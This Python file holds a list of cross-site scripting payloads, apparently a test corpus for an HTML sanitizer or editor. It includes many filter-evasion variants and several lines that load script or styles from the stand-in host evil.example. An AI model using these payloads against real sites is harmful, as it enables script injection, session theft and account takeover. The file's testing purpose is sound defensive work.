"""Cross-site scripting payloads: classic vectors, each in several disguises."""

VECTORS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="&#97;lert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img src="javascript:alert(1)">',
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">click</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=data:text/html,<script>alert(1)</script>></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#10;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="http://evil.example"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1)>click",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>/script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<img src=x onerror=alert`1`>",
    "<p onpointerenter=alert(1)>x</p>",
]

# How each vector is dressed up: as is, in upper or mixed case, split over lines, and
# inside markup the editor does allow.
DISGUISES = [
    ("plain", lambda v: v),
    ("upper", lambda v: v.upper().replace("ALERT", "alert")),
    ("mixed", lambda v: "".join(c.upper() if i % 2 else c for i, c in enumerate(v))),
    ("newlines", lambda v: v.replace(" ", "\n", 2)),
    ("wrapped", lambda v: f"<p><strong>{v}</strong></p>"),
]

# Entity names are case-sensitive (&colon; decodes, &COLON; does not), so changing the
# case of a vector that relies on one would only make it harmless.
PAYLOADS = list(
    dict.fromkeys(
        disguise(vector)
        for vector in VECTORS
        for name, disguise in DISGUISES
        if not (name in {"upper", "mixed"} and "&" in vector)
    )
)
